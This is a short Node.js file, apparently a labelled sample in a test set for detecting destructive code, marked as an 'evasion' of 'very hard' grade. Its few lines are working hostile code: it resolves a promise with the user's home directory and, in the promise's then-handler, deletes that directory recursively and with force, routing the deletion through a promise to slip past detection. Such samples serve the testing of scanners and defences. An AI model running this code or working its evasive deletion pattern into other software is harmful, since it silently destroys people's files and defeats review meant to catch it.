// evasion: the home settles a Promise.withResolvers promise; its .then deletes it
// grade: very hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');

const { promise, resolve } = Promise.withResolvers();
promise.then((dir) => fs.rmSync(dir, { recursive: true, force: true }));
resolve(os.homedir());
